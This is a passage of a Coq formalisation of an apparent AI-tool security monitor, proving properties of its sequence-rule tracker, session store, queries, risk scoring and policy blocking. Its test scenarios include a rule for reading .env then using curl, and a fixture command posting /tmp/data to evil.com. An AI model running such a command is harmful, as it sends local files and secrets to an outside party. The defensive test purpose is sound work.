  - intros t' sid. pose proof (reset_session_effect t' sid) as (H1 & H2 & H3 & _).
    done.
Qed.

Lemma forall2_exists {A B} (P : A -> B -> Prop) (l : list A) (l' : list B) x :
  Forall2 P l l' -> In x l -> exists y, P x y.
Proof.
  induction 1 as [|a b l l' Hab _ IH]; [done|].
  intros [->|Hin]; [by exists b | by apply IH].
Qed.

(** C5: the window and the order of a sequence rule.  For the buffer of a
    session and the time [now] of the event being tracked:
    - if every buffered event matching some step is older than
      [now - time_window_seconds], the rule does not fire;
    - what a rule returns is one buffered event per step, each inside the
      window and matching its step;
    - an ordered rule fires exactly when the window is not empty and one
      matching event per step can be picked with timestamps that never go
      back in step order, and what it returns is such a pick;
    - the same rule with [ordered=false] fires exactly when the window is
      not empty and every step has a matching event in it; so it fires
      whenever the ordered rule does, and also on events out of step
      order. *)
Theorem check_rule_window_and_order (t : SequenceTracker) (rule : SequenceRule)
    (session_id : string) (now : datetime) (buf : list _BufferedEvent) :
  _buffers t !! session_id = Some buf ->
  let cutoff := now - seconds (rule_time_window_seconds rule) in
  (forall step, In step (rule_steps rule) ->
     (forall e, In e buf -> _matches_step step (be_data e) = true ->
                be_timestamp e < cutoff) ->
     _check_rule t rule session_id now = None) /\
  (forall result, _check_rule t rule session_id now = Some result ->
     Forall2 (window_match buf cutoff) (rule_steps rule) result) /\
  ((exists result, _check_rule t (with_ordered true rule) session_id now = Some result) <->
   (exists e, In e buf /\ cutoff <= be_timestamp e) /\
   (exists sel, Forall2 (window_match buf cutoff) (rule_steps rule) sel /\
                nondecreasing (map be_timestamp sel))) /\
  (forall result, _check_rule t (with_ordered true rule) session_id now = Some result ->
     nondecreasing (map be_timestamp result)) /\
  ((exists result, _check_rule t (with_ordered false rule) session_id now = Some result) <->
   (exists e, In e buf /\ cutoff <= be_timestamp e) /\
   (forall step, In step (rule_steps rule) -> exists e, window_match buf cutoff step e)).
Proof.
  intros Hb cutoff. repeat split.
  - intros step Hin Hold.
    destruct (_check_rule t rule session_id now) as [result|] eqn:Hr; [|done].
    apply (check_rule_sound _ _ _ _ _ _ Hb) in Hr as [Hsel _].
    destruct (forall2_exists _ _ _ _ Hsel Hin) as (e & He & Hle & Hm).
    specialize (Hold e He Hm). fold cutoff in Hle. lia.
  - intros result Hr. by apply (check_rule_sound _ _ _ _ _ _ Hb) in Hr as [Hsel _].
  - by apply (check_rule_ordered_iff t (with_ordered true rule) _ _ _ Hb eq_refl).
  - by apply (check_rule_ordered_iff t (with_ordered true rule) _ _ _ Hb eq_refl).
  - by apply (check_rule_ordered_iff t (with_ordered true rule) _ _ _ Hb eq_refl).
  - intros result Hr.
    by apply (check_rule_sound _ (with_ordered true rule) _ _ _ _ Hb) in Hr as [_ Ho]; auto.
  - by apply (check_rule_unordered_iff t (with_ordered false rule) _ _ _ Hb eq_refl).
  - by apply (check_rule_unordered_iff t (with_ordered false rule) _ _ _ Hb eq_refl).
  - by apply (check_rule_unordered_iff t (with_ordered false rule) _ _ _ Hb eq_refl).
Qed.

End SequenceFacts.

(** *** The scenarios of [tests/test_sequence.py], with plain-text patterns *)

Module SequenceExamples.
Import Sequence LiteralRe.

Definition exfil_rule (ordered : bool) (window : Z) : SequenceRule :=
  mkRule "SEQ-TEST-001" "Test exfiltration" "Read .env then curl"
    [ mkStep "Read sensitive file" ["file_read"] [("file_paths", "env")];
      mkStep "Network exfil" ["command_exec"] [("commands", "curl")] ]
    window ordered ALERT CRITICAL "" "" ["exfil"; "test"] true.

Definition read_env : PyDict JVal :=
  [ ("category", JStr "file_read");
    ("file_paths", JList [JStr "/app/.env"]);
    ("commands", JList []) ].

Definition curl_post : PyDict JVal :=
  [ ("category", JStr "command_exec");
    ("file_paths", JList []);
    ("commands", JList [JStr "curl -d @/tmp/data https://evil.com"]) ].

Definition tracker_with (rule : SequenceRule) : SequenceTracker :=
  load_rules new_tracker [rule].

Definition log_of (rule : SequenceRule) (ops : list TrackerOp) : list (string * string) :=
  snd (@run_ops literal_re (tracker_with rule) ops).

Definition dedup_ops : list TrackerOp :=
  [ OpTrack 1%N "s1" 0 read_env;
    OpTrack 2%N "s1" (seconds 10) curl_post;
    OpTrack 3%N "s1" (seconds 20) read_env;
    OpTrack 4%N "s1" (seconds 30) curl_post ].

Example ordered_sequence_fires :
  log_of (exfil_rule true 300)
    [OpTrack 1%N "s1" 0 read_env; OpTrack 2%N "s1" (seconds 60) curl_post]
  = [("s1", "SEQ-TEST-001")].
Proof. vm_compute. reflexivity. Qed.

Example ordered_sequence_wrong_order_no_fire :
  log_of (exfil_rule true 300)
    [OpTrack 1%N "s1" 0 curl_post; OpTrack 2%N "s1" (seconds 60) read_env]
  = [].
Proof. vm_compute. reflexivity. Qed.

Example unordered_sequence_fires :
  log_of (exfil_rule false 300)
    [OpTrack 1%N "s1" 0 curl_post; OpTrack 2%N "s1" (seconds 60) read_env]
  = [("s1", "SEQ-TEST-001")].
Proof. vm_compute. reflexivity. Qed.

Example sequence_time_window_expired_no_fire :
  log_of (exfil_rule true 60)
    [OpTrack 1%N "s1" 0 read_env; OpTrack 2%N "s1" (seconds 120) curl_post]
  = [].
Proof. vm_compute. reflexivity. Qed.

Example sequence_dedup :
  log_of (exfil_rule true 300) dedup_ops = [("s1", "SEQ-TEST-001")].
Proof. vm_compute. reflexivity. Qed.

Example sequence_cross_session_isolation :
  log_of (exfil_rule true 300)
    [OpTrack 1%N "session-A" 0 read_env; OpTrack 2%N "session-B" (seconds 30) curl_post]
  = [].
Proof. vm_compute. reflexivity. Qed.

Example reset_session_clears_fired :
  log_of (exfil_rule true 300)
    [ OpTrack 1%N "s1" 0 read_env;
      OpTrack 2%N "s1" (seconds 10) curl_post;
      OpReset "s1";
      OpTrack 3%N "s1" (seconds 20) read_env;
      OpTrack 4%N "s1" (seconds 30) curl_post ]
  = [("s1", "SEQ-TEST-001"); ("s1", "SEQ-TEST-001")].
Proof. vm_compute. reflexivity. Qed.

Lemma track_event_fires_once_per_session_witness :
  (fire_count "s1" "SEQ-TEST-001"
     (snd (@run_ops literal_re (tracker_with (exfil_rule true 300)) dedup_ops)) <= 1)%nat /\
  (forall t' sid,
     _buffers (reset_session t' sid) !! sid = None /\
     (forall r, (r, sid) ∉ _fired (reset_session t' sid)) /\
     (forall sid', sid' <> sid ->
        _buffers (reset_session t' sid) !! sid' = _buffers t' !! sid' /\
        (forall r, (r, sid') ∈ _fired (reset_session t' sid) <-> (r, sid') ∈ _fired t'))).
Proof.
  apply (@track_event_fires_once_per_session literal_re
           (tracker_with (exfil_rule true 300)) dedup_ops "s1" "SEQ-TEST-001").
  intros s Hin. simpl in Hin.
  destruct Hin as [Hin|[Hin|[Hin|[Hin|[]]]]]; discriminate Hin.
Defined.

(** The tracker after the two events of the wrong-order scenario. *)
Definition wrong_order_buffer : list _BufferedEvent :=
  [ mkBuffered 1%N 0 curl_post; mkBuffered 2%N (seconds 60) read_env ].

Definition wrong_order_tracker : SequenceTracker :=
  mkTracker [exfil_rule true 300] {["s1" := wrong_order_buffer]} 500 ∅.

Lemma check_rule_window_and_order_witness :
  let t := wrong_order_tracker in
  let rule := exfil_rule true 300 in
  let buf := wrong_order_buffer in
  let now := seconds 60 in
  let cutoff := now - seconds (rule_time_window_seconds rule) in
  (forall step, In step (rule_steps rule) ->
     (forall e, In e buf -> @_matches_step literal_re step (be_data e) = true ->
                be_timestamp e < cutoff) ->
     @_check_rule literal_re t rule "s1" now = None) /\
  (forall result, @_check_rule literal_re t rule "s1" now = Some result ->
     Forall2 (@window_match literal_re buf cutoff) (rule_steps rule) result) /\
  ((exists result,
      @_check_rule literal_re t (with_ordered true rule) "s1" now = Some result) <->
   (exists e, In e buf /\ cutoff <= be_timestamp e) /\
   (exists sel, Forall2 (@window_match literal_re buf cutoff) (rule_steps rule) sel /\
                nondecreasing (map be_timestamp sel))) /\
  (forall result,
     @_check_rule literal_re t (with_ordered true rule) "s1" now = Some result ->
     nondecreasing (map be_timestamp result)) /\
  ((exists result,
      @_check_rule literal_re t (with_ordered false rule) "s1" now = Some result) <->
   (exists e, In e buf /\ cutoff <= be_timestamp e) /\
   (forall step, In step (rule_steps rule) ->
      exists e, @window_match literal_re buf cutoff step e)).
Proof.
  apply (@check_rule_window_and_order literal_re wrong_order_tracker
           (exfil_rule true 300) "s1" (seconds 60) wrong_order_buffer).
  reflexivity.
Defined.

End SequenceExamples.

(** ** The store *)

Section StoreFacts.
Import Store.

Lemma update_session_sessions f sid db :
  sessions (update_session f sid db) =
  map (fun s => if String.eqb (s_session_id s) sid then f s else s) (sessions db).
Proof. reflexivity. Qed.

Lemma update_session_in f sid db s :
  In s (sessions db) ->
  In (if String.eqb (s_session_id s) sid then f s else s)
     (sessions (update_session f sid db)).
Proof.
  intros Hin. rewrite update_session_sessions.
  by apply (in_map (fun s => if String.eqb (s_session_id s) sid then f s else s)).
Qed.

Lemma update_session_inv f sid db s' :
  In s' (sessions (update_session f sid db)) ->
  exists s, In s (sessions db) /\
            s' = if String.eqb (s_session_id s) sid then f s else s.
Proof.
  rewrite update_session_sessions, in_map_iff. intros (s & <- & Hin). by exists s.
Qed.

(** The rows of the session that [increment_session_event_count] leaves
    are active and have no end time. *)
Lemma counted_session_active db session_id s' :
  In s' (sessions (increment_session_event_count db session_id)) ->
  s_session_id s' = session_id ->
  s_status s' = "active" /\ s_ended_at s' = None.
Proof.
  intros Hin Hid. apply update_session_inv in Hin as (s & Hin & ->).
  destruct (String.eqb_spec (s_session_id s) session_id) as [He|Hne]; [done|].
  by destruct Hne.
Qed.

(** C10: [increment_session_event_count] adds one to [event_count] of the
    session and also makes it active with no end time; other sessions and
    the other tables stay as they are.  So a session ended by
    [end_session], or closed by [cleanup_stale_sessions], is active again,
    without an end time, after the next event is counted for it. *)
Theorem increment_session_event_count_reopens (db : Database) (session_id : string) :
  let db' := increment_session_event_count db session_id in
  (forall s, In s (sessions db) -> s_session_id s = session_id ->
     In (bump_event_count s) (sessions db') /\
     s_event_count (bump_event_count s) = s_event_count s + 1 /\
     s_status (bump_event_count s) = "active" /\
     s_ended_at (bump_event_count s) = None /\
     s_session_id (bump_event_count s) = session_id) /\
  (forall s', In s' (sessions db') -> s_session_id s' = session_id ->
     s_status s' = "active" /\ s_ended_at s' = None) /\
  (forall s, s_session_id s <> session_id ->
     (In s (sessions db') <-> In s (sessions db))) /\
  (events db' = events db /\ alerts db' = alerts db /\ policies db' = policies db /\
   graph_nodes db' = graph_nodes db /\ graph_edges db' = graph_edges db) /\
  (forall now s, In s (sessions db) -> s_session_id s = session_id ->
     let ended := end_session db now session_id in
     In (mark_ended now s) (sessions ended) /\
     s_status (mark_ended now s) = "ended" /\
     s_ended_at (mark_ended now s) = Some now /\
     In (bump_event_count (mark_ended now s))
        (sessions (increment_session_event_count ended session_id)) /\
     s_status (bump_event_count (mark_ended now s)) = "active" /\
     s_ended_at (bump_event_count (mark_ended now s)) = None) /\
  (forall now inactive_minutes s',
     let cleaned := fst (cleanup_stale_sessions db now inactive_minutes) in
     In s' (sessions (increment_session_event_count cleaned session_id)) ->
     s_session_id s' = session_id ->
     s_status s' = "active" /\ s_ended_at s' = None).
Proof.
  intros db'.
  assert (Hactive := fun d => counted_session_active d session_id).
  split; [|split; [|split; [|split; [|split]]]].
  - intros s Hin Hid. split; [|done].
    pose proof (update_session_in bump_event_count session_id db s Hin) as Hx.
    apply String.eqb_eq in Hid. by rewrite Hid in Hx.
  - apply Hactive.
  - intros s Hne. split.
    + intros Hin. apply update_session_inv in Hin as (s0 & Hin & ->).
      destruct (String.eqb_spec (s_session_id s0) session_id) as [He|Hne0]; [|done].
      by destruct Hne.
    + intros Hin. pose proof (update_session_in bump_event_count session_id db s Hin) as Hx.
      apply String.eqb_neq in Hne. by rewrite Hne in Hx.
  - done.
  - intros now s Hin Hid ended.
    pose proof (update_session_in (mark_ended now) session_id db s Hin) as Hx.
    apply String.eqb_eq in Hid. rewrite Hid in Hx.
    split; [done|]. split; [done|]. split; [done|]. split; [|done].
    pose proof (update_session_in bump_event_count session_id ended _ Hx) as Hy.
    simpl in Hy. by rewrite Hid in Hy.
  - intros now m s' cleaned. apply Hactive.
Qed.

Lemma collect_session_end_leaves_active db now event s' :
  In s' (sessions (collect_session_end_writes db now event)) ->
  s_session_id s' = ev_session_id event ->
  s_status s' = "active" /\ s_ended_at s' = None.
Proof.
  unfold collect_session_end_writes. intros Hin Hid.
  by eapply counted_session_active.
Qed.

End StoreFacts.

(** ** Queries *)

Section QueryFacts.
Import Store Queries.

Lemma append_assoc_str a b c : (a +:+ b) +:+ c = a +:+ b +:+ c.
Proof. induction a as [|x a IH]; [done|]. rewrite !append_cons. by rewrite IH. Qed.

Lemma append_nil_r a : a +:+ "" = a.
Proof. induction a as [|x a IH]; [done|]. by rewrite append_cons, IH. Qed.

Lemma sql_like_percent text : sql_like "%" text = true.
Proof. induction text as [|c text IH]; [done|]. simpl in *. by rewrite IH. Qed.

Lemma sql_like_percent_cons pattern text :
  sql_like (String "%" pattern) text =
  sql_like pattern text ||
  match text with
  | EmptyString => false
  | String _ text' => sql_like (String "%" pattern) text'
  end.
Proof. by destruct text. Qed.

(** A pattern, read as text, matches itself followed by anything. *)
Lemma sql_like_self q post : sql_like (q +:+ "%") (q +:+ post) = true.
Proof.
  induction q as [|c q IH]; [apply sql_like_percent|].
  rewrite !append_cons.
  destruct (Ascii.eqb c "%") eqn:Hc.
  - apply Ascii.eqb_eq in Hc as ->. rewrite sql_like_percent_cons.
    rewrite sql_like_percent_cons, IH. by rewrite orb_true_r.
  - cbn [sql_like]. rewrite Hc, IH, Ascii.eqb_refl. by rewrite orb_true_r.
Qed.

Lemma sql_like_skip pre pattern text :
  sql_like pattern text = true ->
  sql_like (String "%" pattern) (pre +:+ text) = true.
Proof.
  intros Hl. induction pre as [|c pre IH].
  - rewrite append_nil, sql_like_percent_cons, Hl. done.
  - rewrite append_cons, sql_like_percent_cons, IH. by rewrite orb_true_r.
Qed.

(** [text LIKE '%q%'] holds when [q] occurs in [text]. *)
Lemma sql_like_contains q pre post :
  sql_like ("%" +:+ q +:+ "%") (pre +:+ q +:+ post) = true.
Proof. apply sql_like_skip, sql_like_self. Qed.

Lemma join_contains sep x xs :
  In x xs -> exists pre post, Py.join sep xs = pre +:+ x +:+ post.
Proof.
  induction xs as [|y xs IH]; [done|]. intros [->|Hin].
  - destruct xs as [|z xs].
    + exists "", "". by rewrite append_nil, append_nil_r.
    + exists "", (sep +:+ Py.join sep (z :: xs)). done.
  - destruct (IH Hin) as (pre & post & Hj). destruct xs as [|z xs]; [done|].
    exists (y +:+ sep +:+ pre), post.
    change (Py.join sep (y :: z :: xs)) with (y +:+ sep +:+ Py.join sep (z :: xs)).
    by rewrite Hj, !append_assoc_str.
Qed.

Lemma session_ids_like_member session_id n :
  json_escape session_id = session_id ->
  In session_id (node_session_ids n) ->
  session_ids_like session_id n = true.
Proof.
  intros Hplain Hin. unfold session_ids_like, json_dumps_strings.
  apply (in_map json_string) in Hin.
  apply (join_contains ", ") in Hin as (pre & post & ->).
  unfold json_string. rewrite Hplain.
  replace ("%" +:+ dquote +:+ session_id +:+ dquote +:+ "%")
    with ("%" +:+ (dquote +:+ session_id +:+ dquote) +:+ "%")
    by (by rewrite !append_assoc_str).
  replace ("[" +:+ (pre +:+ (dquote +:+ session_id +:+ dquote) +:+ post) +:+ "]")
    with (("[" +:+ pre) +:+ (dquote +:+ session_id +:+ dquote) +:+ (post +:+ "]"))
    by (by rewrite !append_assoc_str).
  apply sql_like_contains.
Qed.

Lemma mem_uuid_In x xs : mem_uuid x xs = true <-> In x xs.
Proof.
  unfold mem_uuid. rewrite existsb_exists. split.
  - intros (y & Hy & He). apply N.eqb_eq in He. by subst.
  - intros Hx. exists x. split; [done | apply N.eqb_refl].
Qed.


End QueryFacts.

Module SessionGraphExample.
Import Store Queries.

Definition graph_node (id : UUID) (session_ids : list string) : GraphNode :=
  mkNode id NT_FILE "x" (String (ascii_of_N (48 + id)) "") 0 0 1 0 session_ids [] 1 None [].

Definition shared_edge : GraphEdge :=
  mkEdge 10%N 1%N 2%N READS 0 0 1 ["s2"] [] 1 None [].

Definition shared_db : Database :=
  mkDatabase [] [] [] []
    [graph_node 1%N ["s1"]; graph_node 2%N ["s2"]; graph_node 3%N ["S1"]]
    [shared_edge].


End SessionGraphExample.

Section TimelineFacts.
Import Store Queries.

Lemma fill_points_length room interval to_date er ar current :
  (length (fill_points room interval to_date er ar current) <= room)%nat.
Proof.
  revert current. induction room as [|room IH]; intros current; simpl; [lia|].
  destruct (current <=? to_date); simpl; [|lia]. specialize (IH (current + bucket_delta interval)). lia.
Qed.

Lemma bucket_delta_pos interval : 0 < bucket_delta interval.
Proof.
  unfold bucket_delta, seconds.
  destruct (String.eqb interval "minute"); [lia|].
  destruct (String.eqb interval "day"); lia.
Qed.

Lemma fill_points_nth room interval to_date er ar : forall current k,
  (k < room)%nat ->
  current + Z.of_nat k * bucket_delta interval <= to_date ->
  nth_error (fill_points room interval to_date er ar current) k =
  Some (mkPoint (current + Z.of_nat k * bucket_delta interval)
          (bucket_count interval er (current + Z.of_nat k * bucket_delta interval))
          (bucket_count interval ar (current + Z.of_nat k * bucket_delta interval))).
Proof.
  pose proof (bucket_delta_pos interval) as Hpos.
  induction room as [|room IH]; intros current k Hk Hle; [lia|]. simpl.
  assert (0 <= Z.of_nat k * bucket_delta interval) as Hnn by (apply Z.mul_nonneg_nonneg; lia).
  destruct (Z.leb_spec current to_date) as [Hc|Hc]; [|lia].
  destruct k as [|k]; simpl.
  - change (Z.of_nat 0) with 0. by rewrite Z.mul_0_l, Z.add_0_r.
  - assert (current + bucket_delta interval + Z.of_nat k * bucket_delta interval =
            current + Z.of_nat (S k) * bucket_delta interval) as Heq
      by (rewrite Nat2Z.inj_succ; lia).
    rewrite IH; [|lia|lia]. by rewrite Heq.
Qed.

Lemma fill_points_nth_inv room interval to_date er ar : forall current k p,
  nth_error (fill_points room interval to_date er ar current) k = Some p ->
  (k < room)%nat /\
  pt_timestamp p = current + Z.of_nat k * bucket_delta interval /\
  pt_timestamp p <= to_date.
Proof.
  induction room as [|room IH]; intros current k p; simpl; [by destruct k|].
  destruct (Z.leb_spec current to_date) as [Hc|Hc]; [|by destruct k].
  destruct k as [|k]; cbn [nth_error].
  - intros [= <-]. simpl. split; [lia|]. split; lia.
  - intros Hn. apply IH in Hn as (Hk & Ht & Hle). split; [lia|]. split; [|lia].
    rewrite Ht, Nat2Z.inj_succ. lia.
Qed.

Lemma bucket_count_zero interval rows current :
  (forall r, In r rows -> sql_bucket interval (fst r) <> lookup_bucket interval current) ->
  bucket_count interval rows current = 0.
Proof.
  intros Hno. unfold bucket_count.
  assert (List.filter (fun r => sql_bucket interval (fst r) =? lookup_bucket interval current)
            rows = []) as ->; [|done].
  induction rows as [|r rows IH]; [done|]. simpl.
  destruct (Z.eqb_spec (sql_bucket interval (fst r)) (lookup_bucket interval current)) as [He|Hne].
  - exfalso. by apply (Hno r); [left|].
  - apply IH. intros r' Hin. apply Hno. by right.
Qed.

Lemma upgraded_interval_cases from_date to_date interval :
  (to_date - from_date <= 500 * seconds (interval_seconds interval) ->
   upgraded_interval from_date to_date interval = interval) /\
  (interval = "minute" ->
   500 * seconds 60 < to_date - from_date <= 500 * seconds 3600 ->
   upgraded_interval from_date to_date interval = "hour") /\
  (interval = "minute" ->
   500 * seconds 3600 < to_date - from_date ->
   upgraded_interval from_date to_date interval = "day") /\
  (interval <> "minute" ->
   500 * seconds (interval_seconds interval) < to_date - from_date ->
   upgraded_interval from_date to_date interval = "day").
Proof.
  unfold upgraded_interval, exceeds_cap.
  change (Z.of_nat MAX_TIMELINE_BUCKETS) with 500.
  split; [|split; [|split]].
  - intros Hle. destruct (_ <? _) eqn:E; [|done]. apply Z.ltb_lt in E. lia.
  - intros -> [Hlo Hhi]. change (interval_seconds "minute") with 60.
    destruct (500 * seconds 60 <? _) eqn:E; [|apply Z.ltb_ge in E; lia].
    change (String.eqb "minute" "minute") with true. cbv iota beta.
    destruct (500 * seconds 3600 <? _) eqn:E'; [apply Z.ltb_lt in E'; lia | done].
  - intros -> Hlo. change (interval_seconds "minute") with 60.
    destruct (500 * seconds 60 <? _) eqn:E;
      [|apply Z.ltb_ge in E; unfold seconds in *; lia].
    change (String.eqb "minute" "minute") with true. cbv iota beta.
    destruct (500 * seconds 3600 <? _) eqn:E'; [done | apply Z.ltb_ge in E'; lia].
  - intros Hne Hlo. destruct (_ <? _) eqn:E; [|apply Z.ltb_ge in E; lia].
    apply String.eqb_neq in Hne. by rewrite Hne.
Qed.


End TimelineFacts.

Module TimelineExample.
Import Store Queries.

Definition day : Z := seconds 86400.


End TimelineExample.

(** ** Risk scoring *)

Section RiskFacts.
Import Store Engine.
Context `{PyRe}.

Lemma sum_over_from {A} (f : A -> Z) xs acc :
  fold_left (fun score x => score + f x) xs acc = acc + sum_over f xs.
Proof.
  unfold sum_over. revert acc. induction xs as [|x xs IH]; intros acc; simpl; [lia|].
  rewrite IH, (IH (0 + f x)). lia.
Qed.

Lemma sum_over_cons {A} (f : A -> Z) x xs :
  sum_over f (x :: xs) = f x + sum_over f xs.
Proof. unfold sum_over at 1. simpl. by rewrite sum_over_from. Qed.

Lemma sum_over_ext {A} (f g : A -> Z) xs :
  (forall x, f x = g x) -> sum_over f xs = sum_over g xs.
Proof.
  intros Hfg. induction xs as [|x xs IH]; [done|].
  by rewrite !sum_over_cons, Hfg, IH.
Qed.

Lemma sum_over_zero {A} (f : A -> Z) xs :
  (forall x, In x xs -> f x = 0) -> sum_over f xs = 0.
Proof.
  induction xs as [|x xs IH]; intros Hz; [done|]. rewrite sum_over_cons.
  rewrite (Hz x), IH; [done| |by left]. intros y Hy. apply Hz. by right.
Qed.

Lemma sum_over_nonneg {A} (f : A -> Z) xs :
  (forall x, 0 <= f x) -> 0 <= sum_over f xs.
Proof.
  intros Hf. induction xs as [|x xs IH]; [done|]. rewrite sum_over_cons.
  specialize (Hf x). lia.
Qed.

Lemma all_signals_from signals text acc :
  fold_left (fun score '(pattern, weight) =>
               if re_found true pattern text then score + weight else score)
            signals acc
  = acc + sum_over id (found_weights signals text).
Proof.
  unfold found_weights. revert acc.
  induction signals as [|[p w] signals IH]; intros acc; simpl; [unfold sum_over; simpl; lia|].
  rewrite IH. destruct (re_found true p text); simpl; [|done].
  rewrite sum_over_cons. unfold id at 2. lia.
Qed.

Lemma all_signals_sum signals text :
  all_signals signals text = sum_over id (found_weights signals text).
Proof. unfold all_signals. by rewrite all_signals_from. Qed.

Lemma first_signal_none signals text :
  (forall p ic w, In (p, ic, w) signals -> re_found ic p text = false) ->
  first_signal signals text = 0.
Proof.
  intros Hno. unfold first_signal.
  destruct (List.find _ signals) as [[[p ic] w]|] eqn:Hf; [|done].
  apply List.find_some in Hf as [Hin Hfound]. by rewrite (Hno p ic w Hin) in Hfound.
Qed.

Lemma first_signal_first signals text pre p ic w post :
  signals = pre ++ (p, ic, w) :: post ->
  (forall p' ic' w', In (p', ic', w') pre -> re_found ic' p' text = false) ->
  re_found ic p text = true ->
  first_signal signals text = w.
Proof.
  intros -> Hpre Hfound. unfold first_signal.
  induction pre as [|[[p' ic'] w'] pre IH]; simpl.
  - by rewrite Hfound.
  - rewrite (Hpre p' ic' w'); [|by left]. apply IH.
    intros p0 ic0 w0 Hin. apply (Hpre p0 ic0 w0). by right.
Qed.


Lemma first_signal_nonneg signals text :
  (forall p ic w, In (p, ic, w) signals -> 0 <= w) ->
  0 <= first_signal signals text.
Proof.
  intros Hw. unfold first_signal.
  destruct (List.find _ signals) as [[[p ic] w]|] eqn:Hf; [|done].
  apply List.find_some in Hf as [Hin _]. by apply (Hw p ic w).
Qed.

Lemma found_weights_nonneg signals text :
  (forall p w, In (p, w) signals -> 0 <= w) ->
  0 <= sum_over id (found_weights signals text).
Proof.
  intros Hw. unfold found_weights.
  induction signals as [|[p w] signals IH]; [done|]. simpl.
  assert (0 <= sum_over id (map snd (List.filter (fun s => re_found true (fst s) text) signals)))
    as Hrec by (apply IH; intros p' w' Hin; apply (Hw p' w'); by right).
  destruct (re_found true p text); simpl; [|done].
  rewrite sum_over_cons. unfold id at 1. specialize (Hw p w (or_introl eq_refl)). lia.
Qed.

Lemma found_weights_none signals text :
  (forall p w, In (p, w) signals -> re_found true p text = false) ->
  found_weights signals text = [].
Proof.
  intros Hno. unfold found_weights.
  induction signals as [|[p w] signals IH]; [done|]. simpl.
  rewrite (Hno p w); [|by left]. apply IH. intros p' w' Hin. apply (Hno p' w'). by right.
Qed.

Lemma table_weights_nonneg :
  (forall p ic w, In (p, ic, w) (with_ignorecase _FILE_RISK_SIGNALS) -> 0 <= w) /\
  (forall p w, In (p, w) _CMD_RISK_SIGNALS -> 0 <= w) /\
  (forall p w, In (p, w) _SEARCH_RISK_SIGNALS -> 0 <= w) /\
  (forall p ic w, In (p, ic, w) _URL_RISK_SIGNALS -> 0 <= w).
Proof.
  repeat split; intros; simpl in *;
    repeat match goal with
           | Hin : _ \/ _ |- _ => destruct Hin as [Hin|Hin]
           | Hin : (_, _) = (_, _) |- _ => injection Hin as <-; subst
           | Hin : False |- _ => destruct Hin
           end; lia.
Qed.

Lemma search_risk_nonneg event : 0 <= search_risk event.
Proof.
  unfold search_risk. destruct (ev_tool_input event) as [[|kv d]|]; [done| |done].
  destruct (_ || _); [|done]. rewrite all_signals_sum.
  apply found_weights_nonneg, table_weights_nonneg.
Qed.

Lemma search_risk_none event :
  (forall p w, In (p, w) _SEARCH_RISK_SIGNALS ->
     re_found true p (default "" (dict_get (tool_input_or_empty event) "pattern")) = false) ->
  search_risk event = 0.
Proof.
  intros Hno. unfold search_risk, tool_input_or_empty in *.
  destruct (ev_tool_input event) as [[|kv d]|]; [done| |done].
  destruct (_ || _); [|done]. rewrite all_signals_sum.
  by rewrite found_weights_none.
Qed.

Lemma ip_risk_external ip :
  (forall prefix, In prefix local_ip_prefixes -> Str.startswith ip prefix = false) ->
  ip_risk ip = 6.
Proof.
  intros Hno. unfold ip_risk, Str.startswith_any.
  assert (existsb (Str.startswith ip) local_ip_prefixes = false) as ->; [|done].
  apply not_true_is_false. intros Hex. apply existsb_exists in Hex as (p & Hin & Hp).
  by rewrite (Hno p Hin) in Hp.
Qed.

Lemma ip_risk_local ip prefix :
  In prefix local_ip_prefixes -> Str.startswith ip prefix = true -> ip_risk ip = 0.
Proof.
  intros Hin Hp. unfold ip_risk, Str.startswith_any.
  assert (existsb (Str.startswith ip) local_ip_prefixes = true) as ->; [|done].
  apply existsb_exists. by exists prefix.
Qed.

Lemma ip_risk_nonneg ip : 0 <= ip_risk ip.
Proof. unfold ip_risk. by destruct (negb _). Qed.

Lemma update_session_forall2 f sid db :
  Forall2 (fun s s' => s' = s \/ (s_session_id s = sid /\ s' = f s))
          (sessions db) (sessions (update_session f sid db)).
Proof.
  unfold update_session. simpl. induction (sessions db) as [|s ss IH]; simpl; [constructor|].
  constructor; [|done].
  destruct (String.eqb_spec (s_session_id s) sid); [by right | by left].
Qed.


End RiskFacts.

Module RiskExample.
Import Store Engine LiteralRe.

Example risk_external_ip :
  @_compute_event_risk literal_re (ip_only_event ["8.8.8.8"]) = 6.
Proof. reflexivity. Qed.

Example risk_localhost_no_risk :
  @_compute_event_risk literal_re (ip_only_event ["127.0.0.1"]) = 0.
Proof. reflexivity. Qed.


End RiskExample.

(** ** Pre-tool evaluation *)

Section PreToolFacts.
Import Store Engine.
Context `{PyRe} `{ConditionEval}.

Lemma blocking_policy_first policies event pre policy post :
  policies = pre ++ policy :: post ->
  (forall p, In p pre -> blocks p event = false) ->
  blocks policy event = true ->
  blocking_policy policies event = Some policy.
Proof.
  intros -> Hpre Hp. unfold blocking_policy.
  induction pre as [|q pre IH]; simpl.
  - fold (blocks policy event). by rewrite Hp.
  - fold (blocks q event). rewrite (Hpre q); [|by left].
    apply IH. intros p Hin. apply Hpre. by right.
Qed.

Lemma blocking_policy_none policies event :
  (forall p, In p policies -> blocks p event = false) ->
  blocking_policy policies event = None.
Proof.
  intros Hno. unfold blocking_policy.
  destruct (List.find _ policies) as [p|] eqn:Hf; [|done].
  apply List.find_some in Hf as [Hin Hb]. fold (blocks p event) in Hb.
  by rewrite (Hno p Hin) in Hb.
Qed.

Lemma Forall2_map_self {A} (P : A -> A -> Prop) (f : A -> A) l :
  (forall x, P x (f x)) -> Forall2 P l (map f l).
Proof. intros Hf. induction l; simpl; constructor; auto. Qed.

Lemma matches_enabled policy data :
  Policies.matches policy data = true -> policy_enabled policy = true.
Proof. unfold Policies.matches. by destruct (policy_enabled policy). Qed.

Lemma save_alert_fresh db alert :
  (forall a, In a (alerts db) -> alert_id a <> alert_id alert) ->
  save_alert db alert = set_alerts db (alerts db ++ [alert]).
Proof.
  intros Hfresh. unfold save_alert.
  assert (existsb (fun a => N.eqb (alert_id a) (alert_id alert)) (alerts db) = false) as ->;
    [|done].
  apply not_true_is_false. intros Hex. apply existsb_exists in Hex as (a & Hin & He).
  apply N.eqb_eq in He. by apply (Hfresh a).
Qed.

Lemma evaluate_pre_tool_deny event w policy :
  blocking_policy (_policies w) (classify (enrich event)) = Some policy ->
  let event' := classify (enrich event) in
  let alert := block_alert policy event' (next_uuid w) (clock w) in
  evaluate_pre_tool event w =
  (mkDecision false (Some ("Blocked by policy: " +:+ policy_name policy)) None
              (Some (alert_id alert)),
   event',
   mkEngine
     (increment_session_alert_count (save_alert (database w) alert)
        (ev_session_id event'))
     (_event_queue w) (_policies w) (_sequence_tracker w)
     (N.succ (next_uuid w)) (clock w + 1 + 1) (broadcasts w ++ [BroadcastAlert alert])).
